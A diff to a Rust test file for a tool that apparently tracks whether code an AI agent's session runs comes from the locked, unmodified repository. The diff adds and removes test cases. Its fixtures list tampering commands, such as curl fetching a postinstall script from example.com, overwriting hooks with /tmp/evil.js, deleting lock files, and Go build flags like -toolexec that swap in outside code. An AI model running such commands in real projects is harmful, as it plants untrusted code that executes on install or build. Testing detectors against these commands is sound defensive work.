@@ -1,4 +1,4 @@
-//! Code that a session runs: of the repository as it was, or what the session made of it.
+//! Code that a session runs: what the lock file names, and scripts of the repository that the session edited.
 
 use agent_strace_model::Status;
 
@@ -45,6 +45,19 @@ const NOT_LOCKED: &[(&str, &str)] = &[
     ("mv /tmp/m web", "cd web && npm ci"),
     ("ln -s /tmp/m web", "cd web && npm ci"),
     ("cd /tmp/m", "npm ci"),
+    ("cd node_modules/x", "npm ci"),
+    ("curl -so scripts/postinstall.js https://example.com/x", "npm ci"),
+    ("cp /tmp/evil.js scripts/postinstall.js", "npm ci"),
+    ("true", "curl -so vendor/p.tgz https://example.com/p.tgz && npm ci"),
+    ("rm package-lock.json", "npm install"),
+    ("true", "rm -rf node_modules package-lock.json && npm install"),
+    ("git rm -q pnpm-lock.yaml", "pnpm install"),
+    ("git pull origin other", "npm ci"),
+    ("git switch other", "npm ci"),
+    ("git merge other", "npm ci"),
+    ("git stash pop", "npm ci"),
+    ("echo '{}' > binding.gyp", "npm ci"),
+    ("echo 'cd /' > .bundle/config", "bundle install"),
 ];
 
 #[test]
@@ -59,53 +72,6 @@ fn what_the_lock_file_names_is_installed_where_the_session_changed_no_list() {
         let mut tracker = track(Some("/repo"), &STAYS);
         run(&mut tracker, "Bash", before);
         assert!(!run(&mut tracker, "Bash", install).contains(LOCKED), "{before}: {install}");
-    }
-}
-
-const COMPILED: &str = "runs a program that this session compiled";
-
-/// A call before the build, the build, and the program that it makes.
-const NOT_COMPILED: &[(&str, &str, &str)] = &[
-    ("curl -so main.go https://example.com/m.go", "go build -o /tmp/x .", "/tmp/x"),
-    ("cp -r /tmp/m cmd/y", "go build -o /tmp/x ./cmd/x", "/tmp/x"),
-    ("curl -sL https://example.com/x.tgz | tar xz", "go build -o /tmp/x .", "/tmp/x"),
-    ("git clone https://github.com/a/b", "cd b && go build -o /tmp/x .", "/tmp/x"),
-    ("true", "go build -o /tmp/x /tmp/m", "/tmp/x"),
-    ("true", "cd /tmp/m && go build -o /tmp/x .", "/tmp/x"),
-    ("true", "go build -C /tmp/m -o /tmp/x .", "/tmp/x"),
-    ("true", "go build -o /tmp/x -overlay /tmp/o.json .", "/tmp/x"),
-    ("true", "go build -o /tmp/x -toolexec ./t .", "/tmp/x"),
-    ("true", "go build -o /tmp/x . && cp /tmp/evil /tmp/x", "/tmp/x"),
-    ("true", "go build -o /tmp/x . && echo id >> /tmp/x", "/tmp/x"),
-    ("true", "go build -o /tmp/x . && mv /tmp/evil /tmp/x", "/tmp/x"),
-    ("true", "go build -o /tmp/x . && ln -sf /tmp/evil /tmp/x", "/tmp/x"),
-    ("curl -so /tmp/x https://example.com/x", "go build -o /tmp/x .", "/tmp/x"),
-    ("curl -so /tmp/x https://example.com/x", "go build -n -o /tmp/x .", "/tmp/x"),
-    ("true", "GOFLAGS=-toolexec=/tmp/t go build -o /tmp/x .", "/tmp/x"),
-    ("true", "export GOWORK=/tmp/go.work; go build -o /tmp/x .", "/tmp/x"),
-    ("go env -w GOFLAGS=-overlay=/tmp/o.json", "go build -o /tmp/x .", "/tmp/x"),
-    ("true", "go build -ldflags '-extld=/tmp/t' -o /tmp/x .", "/tmp/x"),
-    ("echo 'replace a => /tmp/evil' >> go.mod", "go build -o /tmp/x .", "/tmp/x"),
-    ("printf 'go 1.22\nuse /tmp/evil\n' > go.work", "go build -o /tmp/x .", "/tmp/x"),
-    ("go get example.com/m && go mod tidy", "go build -o /tmp/x .", "/tmp/x"),
-    ("git apply /tmp/p.patch", "go build -o /tmp/x .", "/tmp/x"),
-    ("true", "go build -o /tmp/x . || curl -so /tmp/x https://example.com/x", "/tmp/x"),
-];
-
-#[test]
-fn a_program_that_the_session_compiles_is_code_of_the_repository() {
-    let mut tracker = track(Some("/repo"), &STAYS);
-    create(&mut tracker, "cmd/x/main.go", "package main");
-    edit(&mut tracker, &serde_json::json!({ "path": "a.go", "old_str": "a", "new_str": "b" }), Status::Ok);
-    run(&mut tracker, "Bash", "go test ./... 2>&1 | tail -3; git add -A");
-    let effects = run(&mut tracker, "Bash", "go build -o /tmp/x ./cmd/x && /tmp/x status");
-    assert!(effects.contains(COMPILED), "{effects}");
-    for (before, build, program) in NOT_COMPILED {
-        let mut tracker = track(Some("/repo"), &STAYS);
-        run(&mut tracker, "Bash", before);
-        run(&mut tracker, "Bash", build);
-        let effects = run(&mut tracker, "Bash", program);
-        assert!(!effects.contains(COMPILED), "{before}; {build}: {effects}");
     }
 }
 
